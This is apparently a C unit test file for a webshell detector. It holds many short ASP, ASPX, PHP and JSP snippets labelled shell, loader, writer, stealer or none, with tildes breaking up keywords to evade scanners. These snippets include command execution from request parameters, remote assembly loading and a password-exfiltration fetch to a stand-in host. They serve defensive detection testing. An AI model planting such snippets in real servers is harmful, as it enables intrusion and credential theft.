/*
 * Small pages from bytes to class. '~' stands nowhere: it is taken out before the page is read,
 * so that no scanner takes this file for what it describes.
 */
#include "webshell/api.h"
#include "webshell/judge.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdlib.h>

#include <cmocka.h>

static struct slice without_tildes(struct arena *arena, const char *text)
{
    size_t len = 0;
    char *out = arena_alloc(arena, strlen(text) + 1);
    for (; *text != '\0'; text++) {
        if (*text != '~') {
            out[len++] = *text;
        }
    }
    return slice_of(out, len);
}

static void analyse(struct arena *arena, struct slice bytes, struct slice path,
                    struct page_report *report)
{
    struct api_library *library = api_library_new();
    page_analyse(arena, library, bytes, path, report);
    api_library_free(library); /* reports borrow from the tables, not from their index */
}

#define CS "<%@ Page Language=\"C#\" %>"
#define JS "<%@ Page Language=\"JScript\" %>"
#define VB "<%@ Page Language=\"VB\" %>"
#define UPLOAD CS "<asp:FileUpload id='f' runat='server' />"

#define CONFIG(inner) "<?xml version='1.0'?><configuration>" inner "</configuration>"

static const struct {
    const char *path, *text, *class;
} cases[] = {
    /* --- shells --- */
    { "a.aspx", JS "<% ev~al(Req~uest.Item[\"x\"], \"unsafe\"); %>", "shell" },
    { "a.aspx", CS "<% Pro~cess.Start(\"a\", Req~uest[\"x\"]); %>", "shell" },
    { "a.aspx", CS "<% System.IO.File.WriteAllText(Req~uest[\"p\"], Req~uest[\"c\"]); %>",
      "shell" },
    { "a.aspx", CS "<% File.WriteAllText(\"b.aspx\", Req~uest[\"c\"]); %>", "shell" },
    { "a.aspx", UPLOAD "<% f.SaveAs(Server.MapPath(f.FileName)); %>", "shell" },
    /* What a word processor made of the quotes: UTF-8, GBK, Windows-1252. */
    { "a.aspx",
      "<%@ Page Language=\xe2\x80\x9d"
      "C#\xe2\x80\x9d %><script runat=\xe2\x80\x9dserver\xe2\x80\x9d>"
      "void f() { Pro~cess.Start(\xe2\x80\x9c"
      "a\xe2\x80\x9d, Req~uest[\xe2\x80\x9cx\"]); }</script>",
      "shell" },
    { "a.aspx",
      CS "<% Pro~cess.Start(\xa1\xb0"
         "a\xa1\xb1, Req~uest[\xa1\xb0x\xa1\xb1]); %>",
      "shell" },
    { "a.aspx",
      CS "<% Pro~cess.Start(\x93"
         "a\x94, Req~uest[\x93x\x94]); %>",
      "shell" },
    /* Places that are looked up all over the server; a folder of the page's own. */
    { "a.aspx",
      CS "<% foreach (var d in DriveInfo.GetDrives()) foreach (string s in "
         "Directory.GetDirectories(d.Name)) File.Create(s + \"\\\\t\").Close(); %>",
      "writer" },
    { "a.aspx",
      CS "<% foreach (string n in key.GetValueNames()) { string p = key.GetValue(n); "
         "File.WriteAllText(p + \"t\", \"1\"); } %>",
      "writer" },
    { "a.aspx",
      CS "<% foreach (string s in Directory.GetDirectories(Server.MapPath(\"a\"))) "
         "File.Create(s + \"\\\\t\").Close(); %>",
      "none" },
    { "a.aspx", CS "<% File.SetLastWriteTime(Req~uest[\"p\"], t); %>", "writer" },
    /* A style sheet whose script runs what it is given. */
    { "a.aspx",
      CS "<% var x = new XslCompiledTransform(); x.Load(new XmlTextReader(new StringReader(\""
         "<xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform' "
         "xmlns:msxsl='urn:schemas-microsoft-com:xslt' xmlns:u='u'><msxsl:script "
         "language='C#' implements-prefix='u'>public void r() { Pro~cess.Start(\" + "
         "Req~uest[\"c\"] + \"); }</msxsl:script></xsl:stylesheet>\"))); %>",
      "shell" },
    { "a.xslt",
      "<xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform' "
      "xmlns:msxsl='urn:schemas-microsoft-com:xslt' xmlns:u='u'><msxsl:script "
      "language='C#' implements-prefix='u'><![CDATA[public string r() { Pro~cess.Start(\"a\", "
      "HttpContext.Current.Req~uest[\"c\"]); }]]></msxsl:script></xsl:stylesheet>",
      "shell" },
    { "a.aspx", CS "<% new SqlCommand(Req~uest[\"q\"], new SqlConnection(s)); %>", "shell" },
    { "a.aspx",
      CS "<% new SqlCommand(\"a\" + Req~uest[\"q\"], new "
         "SqlConnection(Req~uest[\"s\"])); %>",
      "shell" },
    { "a.aspx",
      CS "<% var r = WebRequest.Create(Req~uest[\"u\"]); Req~uest.InputStream.CopyTo("
         "r.GetRequestStream()); %>",
      "shell" },
    { "a.aspx",
      CS "<% if (a) foreach (var d in new DirectoryInfo(Req~uest[\"d\"]).GetFiles()) "
         "b(d); else Response.WriteFile(Req~uest[\"f\"]); %>",
      "shell" },
    { "a.aspx", CS "<% Assem~bly.Load(Req~uest.BinaryRead(1)).CreateInstance(\"a\"); %>",
      "shell" },
    { "a.ashx",
      "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nclass H : IHttpHandler { public "
      "void ProcessRequest(HttpContext c) { Pro~cess.Start(c.Req~uest[\"x\"]); } }",
      "shell" },
    { "a.asmx",
      "<%@ WebService Language=\"VB\" Class=\"H\" %>\nClass H\n<WebMethod()> Public Sub "
      "F(s As String)\nSh~ell(s)\nEnd Sub\nEnd Class",
      "shell" },
    { "a.asp", "<% e~val req~uest(\"x\") %>", "shell" },
    { "a.asp", "<% exe~cute(req~uest(\"x\")) %>", "shell" },
    { "a.asp",
      "<% exe~cute d(\"abc\")\nFunction d(s)\nFor i = 1 To Len(s)\nt = Mid(s, i, 1)\nr = t & "
      "r\nNext\nd = r\nEnd Function %>",
      "loader" },
    { "a.asp",
      "<% Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"c:\\n.vbs\")\n"
      "f.Write \"a\"\nCreateObject(\"WScr~ipt.Shell\").Run \"c:\\n.vbs\" %>",
      "loader" },
    { "a.jpg", "GIF89a<%@ Page Language=\"JScript\" %><% ev~al(Req~uest.Item[\"x\"]); %>",
      "shell" },

    /* PHP: mail, sockets, folders and files that the caller chooses */
    { "a.php",
      "<?php foreach (explode(',', $_PO~ST['to']) as $t) ma~il($t, $_PO~ST['s'], "
      "$_PO~ST['b']);",
      "shell" },
    { "a.php", "<?php ma~il('a@b', $_PO~ST['s'], $_PO~ST['b']);", "none" },
    { "a.php",
      "<?php $r = mysql_query('select m from t'); $m = mysql_fetch_row($r); "
      "ma~il($m[0] . $_PO~ST['x'], $_PO~ST['s'], $_PO~ST['b']);",
      "none" },
    { "a.php", "<?php $s = fsock~open('udp://' . $_GE~T['h'], 1); fwrite($s, 'x');", "shell" },
    { "a.php", "<?php $s = fsock~open('h', 1); fwrite($s, $_GE~T['x']);", "none" },
    { "a.php", "<?php if ($_GE~T['d']) $d = $_GE~T['d']; else $d = '/'; open~dir($d);",
      "shell" },
    { "a.php", "<?php open~dir('up/' . $_GE~T['d']);", "none" },
    { "a.php", "<?php foreach (['d', 'e'] as $n) $$n = $_GE~T[$n]; open~dir($d);", "shell" },
    { "a.php", "<?php copy('compress.zlib://' . $_PO~ST['f'], $t);", "shell" },
    { "a.php",
      "<?php $c = curl_init(); curl_setopt($c, CURLOPT_URL, 'file:///' . $_GE~T['f']);",
      "shell" },
    { "a.php",
      "<?php $c = curl_init(); curl_setopt($c, CURLOPT_URL, 'http://a/?' . $_GE~T['f']);",
      "none" },
    { "a.php",
      "<?php mysql_connect($_PO~ST['h']); $t = mysql_fetch_row(mysql_query('show tables')); "
      "mysql_query('select * from ' . $t[0]);",
      "shell" },
    { "a.php", "<?php sys~tem('ln -s / all');", "shell" },
    /* PHP: code that is spelled, fetched or read */
    { "a.php", "<?php $f = file_get_contents('f'); $f($_GE~T['x']);", "shell" },
    { "a.php",
      "<?php function d($s) { foreach ($s as $c) $r .= chr($c - 1); return $r; } "
      "(d([101])) (d([102]));",
      "loader" },
    { "a.php",
      "<?php class C { function b($p) { ev~al($p . ''); } } call_user_func(array(C, b), "
      "$_GE~T['x']);",
      "shell" },
    { "a.php", "<?php file_put_contents('/tmp/a', base64_decode($_PO~ST['x']));", "writer" },
    { "a.php", "<?php file_put_contents('/tmp/a', $_PO~ST['x']);", "none" },
    { "a.php",
      "<?php file_put_contents(pathinfo('http://a/b.php', 2), "
      "curl_exec(curl_init('http://a/b.php')));",
      "writer" },

    { "a.php", "<?php $c = $_GE~T['c']; new $c($_GE~T['x']);", "shell" },
    { "a.php", "<?php $c = 'Page' . $_GE~T['c']; new $c($_GE~T['x']);", "none" },
    { "a.php",
      "<?php $z = new ZipArchive; $z->open($_FI~LES['f']['tmp_name']); $z->extractTo('a');",
      "writer" },
    { "a.php",
      "<?php $t = tempnam('a', 'b'); file_put_contents($t, $_PO~ST['x']); "
      "exec(\"spell $t\");",
      "none" },

    /* JSP: reflection in its many ways */
    { "a.jsp",
      "<% Class c = Class.forName(\"java.lang.Proc\" + \"essBuilder\"); "
      "c.getDeclaredConstructors()[0].newInstance(req~uest.getParameter(\"x\")); %>",
      "shell" },
    { "a.jsp",
      "<% Method m = Class.forName(a).getDeclaredMethods()[3]; m.invoke(b, "
      "req~uest.getParameter(\"x\")); %>",
      "shell" },
    { "a.jsp",
      "<% new ClassLo~ader().loadClass(\"A\").getConstructor(String.class).newInstance("
      "req~uest.getParameter(\"x\")); %>",
      "shell" },
    { "a.jsp",
      "<% h = l.findVirtual(Run~time.class, \"exec\", t); h.invoke(r, "
      "req~uest.getHeader(\"x\")); %>",
      "shell" },
    { "a.jsp",
      "${\"\".getClass().forName(\"javax.script.ScriptEngineManager\").newInstance()"
      ".getEngineByName(\"js\").ev~al(param.x)}",
      "shell" },
    { "a.jsp", "<% new JdbcRowSetImpl().setDataSourceName(req~uest.getParameter(\"x\")); %>",
      "shell" },
    /* JSP: what runs some other day */
    { "a.jsp",
      "<% final String q = req~uest.getParameter(\"x\"); new Thread(new Runnable() { public "
      "void run() { Run~time.getRuntime().exec(q); } }); %>",
      "shell" },
    { "a.jsp",
      "<%! void f(String q) { new Thread() { public void run() { "
      "Run~time.getRuntime().exec(q); "
      "} }; } %><% f(req~uest.getParameter(\"x\")); %>",
      "shell" },
    { "a.jsp",
      "<%! class T extends Thread { String q; T(String q) { this.q = q; } public void run() { "
      "Run~time.getRuntime().exec(this.q); } } %><% new T(req~uest.getParameter(\"x\")); %>",
      "shell" },
    { "a.jsp",
      "<% Function f = s -> Run~time.getRuntime().exec(s); "
      "f.apply(req~uest.getParameter(\"x\")); %>",
      "shell" },
    { "a.jsp",
      "<% Optional.of(req~uest.getParameter(\"x\")).map(s -> "
      "Run~time.getRuntime().exec(s)); %>",
      "shell" },
    { "a.jsp",
      "<%! class E extends Endpoint { public void onMessage(String s) { "
      "Run~time.getRuntime().exec(s); } } %>",
      "shell" },
    /* JSP: what is kept between two requests */
    { "a.jsp",
      "<% SocketChannel c = SocketChannel.open(); c.connect(new InetSocketAddress("
      "req~uest.getHeader(\"h\"), 1)); session.setAttribute(\"s\", c); SocketChannel d = "
      "(SocketChannel) session.getAttribute(\"s\"); d.write(req~uest.getInputStream()); %>",
      "shell" },
    { "a.jsp",
      "<%! Map m = new HashMap(); void g(String k) { Socket c = (Socket) m.get(k); "
      "c.getOutputStream().write(k); } %><% String k = req~uest.getParameter(\"k\"); g(k); "
      "m.put(k, new Socket(k, 1)); %>",
      "shell" },
    { "a.jsp",
      "<% new Socket(req~uest.getParameter(\"h\"), 1); Run~time.getRuntime().exec(\"c\" + "
      "\"md.exe\"); %>",
      "shell" },
    { "a.jsp",
      "<% File f = new File(req~uest.getParameter(\"f\")); if (f.isDirectory()) f.listFiles(); "
      "else new FileInputStream(f); %>",
      "shell" },
    /* JSP: tags that come to code */
    { "a.jsp",
      "<jsp:setProperty name=\"\\\" + Run~time.getRuntime().exec("
      "req~uest.getParameter(\\\"x\\\")) + \\\"\" property=\"*\"/>",
      "shell" },
    { "a.jsp",
      "<sql:setDataSource var=\"d\" url=\"${param.u}\"/><sql:query "
      "sql=\"${param.q}\"/>",
      "shell" },
    { "a.jsp", "<c:set var=\"x\" value=\"${param.a}\"/><% new ELProcessor().ev~al(x); %>",
      "shell" },
    { "a.jpg",
      "JPG\n<jsp:scriptlet>Run~time.getRuntime().exec(req~uest.getParameter(\"x\"));"
      "</jsp:scriptlet>",
      "shell" },

    /* --- loaders --- */
    { "a.jsp", "<% byte[] b = Base64.getDecoder().decode(\"yv66vgAAADQA\"); %>", "loader" },
    { "a.aspx",
      CS "<% Assem~bly.Load(aes.CreateDecryptor().TransformFinalBlock("
         "Req~uest.BinaryRead(1), 0, 1)); %>",
      "loader" },
    { "a.aspx", CS "<% Assem~bly.Load(new WebClient().DownloadData(\"http://a/\")); %>",
      "loader" },
    { "a.aspx", CS "<% Assem~bly.Load(Convert.FromBase64String(\"AAAA\")); %>", "loader" },
    { "a.aspx", CS "<% new LosFormatter().Deserialize(Req~uest[\"x\"]); %>", "loader" },

    /* --- writers --- */
    { "a.aspx",
      UPLOAD "<% f.SaveAs(Server.MapPath(\"/u/\") + Path.GetFileName(f.FileName)); %>",
      "writer" },
    { "a.aspx",
      UPLOAD "<% var e = Path.GetExtension(f.FileName).ToLower(); if (e == \".jpg\" || "
             "e == \".png\") f.SaveAs(Server.MapPath(\"/u/\") + f.FileName); %>",
      "writer" },
    { "a.aspx", UPLOAD "<% if (User.IsInRole(\"Admins\")) f.SaveAs(f.FileName); %>", "writer" },
    { "a.aspx", CS "<% File.AppendAllText(Server.MapPath(\"a.log\"), Req~uest.UserAgent); %>",
      "writer" },
    { "a.aspx", CS "<% File.Delete(Req~uest[\"p\"]); %>", "writer" },
    { "a.aspx", CS "<% File.Copy(a, b + \".aspx\"); %>", "writer" },

    /* --- stealers --- */
    { "a.aspx", CS "<% File.AppendAllText(\"/a.txt\", Req~uest[\"password\"]); %>", "stealer" },
    { "a.aspx",
      CS "<asp:TextBox id='p' TextMode='Password' runat='server' /><% new "
         "WebClient().UploadString(\"http://a/\", p.Text); %>",
      "stealer" },

    { "login.js", "fetch('https://a.example/?' + f.password.value);", "stealer" },
    { "a.js", "document.cookie = 'a=' + f.password.value;", "suspect" },
    { "owa/auth/a.js", "document.cookie = 'a=' + f.password.value;", "stealer" },
    { "a.js", "fetch('https://a.example/login', { body: f.password.value });", "suspect" },
    { "a.aspx", CS "<% File.WriteAllText(\"web.config\", Req~uest[\"password\"]); %>",
      "writer" },
    { "a.aspx", CS "<% File.AppendAllText(\"a.txt\", Sha256(Req~uest[\"password\"])); %>",
      "writer" },

    /* --- configurations --- */
    { "web.config",
      CONFIG("<handlers><add path='*.config' scriptProcessor='C:\\a\\asp.dll'/></handlers>"),
      "shell" },
    { "web.config",
      CONFIG("<handlers><add path='*.png' scriptProcessor='C:\\a\\asp.dll'/></handlers>"),
      "suspect" },
    { "web.config", CONFIG("") "<!-- <% e~val req~uest(\"x\") %> -->", "shell" },
    { "web.config", CONFIG("<modules><add type='A.B, A'/></modules>"), "none" },
    { "web.config", CONFIG("<machineKey validationKey='00'/>"), "none" },
    { "a.jsp",
      "<jsp:useBean id=\"u\" class=\"com.a.SmartUpload\"/><% u.upload(); u.save(\"/a/\"); %>",
      "writer" },
    { "a.jsp",
      "<% Logger l = Logger.getLogger(\"a\"); l.addHandler(new FileHandler(\"/a/b.jsp\")); "
      "l.info(req~uest.getParameter(\"x\")); %>",
      "shell" },

    /* --- suspects --- */
    { "a.jsp",
      "<% ResultSet r = s.executeQuery(\"show tables\"); PrintWriter w = new "
      "PrintWriter(\"/a.txt\"); w.println(s.executeQuery(\"select * from \" + "
      "r.getString(1)).getString(1)); %>",
      "suspect" },
    { "a.aspx", CS "<% Pro~cess.Start(\"c\" + \"md.exe\"); %>", "suspect" },
    { "a.aspx", CS "<% Response.WriteFile(Req~uest[\"f\"]); %>", "suspect" },
    { "a.aspx", "\x89PNG\r\n\x1a\n" CS "<% a = b; %>", "suspect" },
    { "a.aspx",
      "InternalAuthenticationMethods : Basic\nExtendedProtectionTokenChecking : None\n"
      "ExternalUrl : http://a/<script language='c#' runat='server'>int a;</script>",
      "suspect" },
    { "a.aspx", CS "<% Activator.CreateInstance(Type.GetType(Req~uest[\"t\"])); %>",
      "suspect" },

    /* --- honest pages --- */
    { "a.aspx", CS "<%# Eval(\"Title\") %><%= Req~uest[\"x\"] %>", "none" },
    { "a.aspx", VB "<%# DataBinder.Eval(Container.DataItem, \"a\") %>", "none" },
    { "a.aspx",
      CS "<% var c = new SqlCommand(\"select a where b = @b\", k); "
         "c.Parameters.AddWithValue(\"@b\", Req~uest[\"b\"]); %>",
      "none" },
    { "a.aspx", CS "<% var q = new SqlCommand(\"select a where b = \" + Req~uest[\"b\"]); %>",
      "none" },
    { "a.aspx", CS "<% Response.WriteFile(Server.MapPath(\"/a/\" + Req~uest[\"f\"])); %>",
      "none" },
    { "a.aspx", CS "<% Response.Redirect(Req~uest[\"u\"]); %>", "none" },
    { "a.aspx", CS "<% new WebClient().UploadString(\"http://a/verify\", Req~uest[\"r\"]); %>",
      "none" },
    { "a.aspx", CS "<% int i = int.Parse(Req~uest[\"i\"]); File.Delete(i + \".txt\"); %>",
      "none" },
    { "a.aspx",
      CS "<% Activator.CreateInstance(Type.GetType(ConfigurationManager.AppSettings"
         "[\"t\"])); %>",
      "none" },
    { "a.aspx", CS "<% Repository.Save(Req~uest.Form[\"a\"]); %>", "none" },
    { "a.aspx", CS "<% Pro~cess.GetCurrentProcess().WorkingSet64.ToString(); %>", "none" },
    { "a.jsp",
      "<% Outcome o = Outcome.forName(req~uest.getParameter(\"x\")); "
      "a.getMethod(\"setName\", String.class).invoke(a, req~uest.getParameter(\"n\")); "
      "session.setAttribute(\"a\", req~uest.getParameter(\"b\")); %>",
      "none" },
    { "a.jsp",
      "<c:set var=\"x\" value=\"${param.a}\"/><c:out value=\"a \\\"b\\\" ${x}\"/>"
      "<jsp:include page=\"a.jsp\"/><sql:query sql=\"select a from b\"/>",
      "none" },
    { "a.txt", "How to use it: call Req~uest(\"x\") and then e~val.", "none" },
};

static void pages_have_classes(void **state)
{
    (void)state;
    unsigned failures = 0;
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        struct arena arena = ARENA_INIT;
        struct page_report report;
        analyse(&arena, without_tildes(&arena, cases[i].text), slice_from(cases[i].path),
                &report);
        const char *class = webshell_class_name(report.class);
        if (strcmp(class, cases[i].class) != 0) {
            print_error("%s\n  is %s, not %s\n", cases[i].text, class, cases[i].class);
            failures++;
        }
        arena_deinit(&arena);
    }
    assert_int_equal(failures, 0);
}

static void the_heaviest_reason_comes_first(void **state)
{
    (void)state;
    struct arena arena = ARENA_INIT;
    struct page_report report;
    struct slice page = without_tildes(
        &arena, CS "<% File.Delete(Req~uest[\"p\"]);\nPro~cess.Start(Req~uest[\"x\"]); %>");
    analyse(&arena, page, SLICE_LIT("a.aspx"), &report);
    assert_int_equal(report.kind, PAGE_KIND_ASPX);
    assert_int_equal(report.language, LANGUAGE_CSHARP);
    assert_int_equal(report.reason_count, 2);
    assert_int_equal(report.reasons[0].code, REASON_FLOW);
    assert_int_equal(report.reasons[0].line, 2);
    assert_int_equal(report.reasons[0].fact->sink, SINK_COMMAND);
    assert_int_equal(report.reasons[1].class, WEBSHELL_WRITER);
    arena_deinit(&arena);
}

/* Head and tail of a file that is too long are looked at, and it is said. */
static void long_files_are_cut(void **state)
{
    (void)state;
    struct arena arena = ARENA_INIT;
    struct page_report report;
    struct slice page = without_tildes(&arena, JS "<% ev~al(Req~uest.Item[\"x\"]); %>");
    size_t len = PAGE_BYTES_MAX + 1000;
    AUTO_FREE char *bytes = mem_alloc(len);
    memset(bytes, ' ', len);
    memcpy(bytes + len - page.len, page.ptr, page.len);
    analyse(&arena, slice_of(bytes, len), SLICE_LIT("a.aspx"), &report);
    assert_true(report.budget_hit);
    assert_int_equal(report.class, WEBSHELL_SHELL);
    arena_deinit(&arena);
}

static void candidates_are_told_by_name_or_head(void **state)
{
    (void)state;
    static const struct {
        const char *path, *head;
        size_t len;
        bool is;
    } files[] = {
        { "C:\\inetpub\\a.ASPX", "", 0, true },    { "a/web.config", "", 0, true },
        { "a/b.jpg", "GIF89a<%@ Page", 14, true }, { "a/b.txt", "<?php", 5, true },
        { "a/b", "<\0%\0@\0", 6, true },           { "a/logon.js", "", 0, true },
        { "a/b.js", "var a;", 6, false },          { "a/b.exe", "MZ", 2, false },
    };
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
        assert_int_equal(
            page_is_candidate(slice_from(files[i].path), slice_of(files[i].head, files[i].len)),
            files[i].is);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(pages_have_classes),
        cmocka_unit_test(the_heaviest_reason_comes_first),
        cmocka_unit_test(long_files_are_cut),
        cmocka_unit_test(candidates_are_told_by_name_or_head),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
